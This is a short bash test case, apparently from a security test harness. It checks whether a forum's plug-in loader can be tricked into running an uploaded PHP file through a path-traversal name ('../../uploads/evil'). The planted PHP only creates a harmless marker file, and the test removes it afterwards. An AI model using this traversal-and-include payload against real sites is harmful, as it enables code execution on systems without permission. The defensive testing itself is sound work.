# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059
about="an upload is run: the name of a plug-in leads to it"
before() { printf '<?php touch("/var/tmp/fidelity/marker/was-here"); return fn() => "x";' >$forum/uploads/evil.php; }
attack() { get plugin 'name=../../uploads/evil' >"$state/answer"; }
effect() { [ -e "$marker" ]; }
after() { rm -f $forum/uploads/evil.php; }
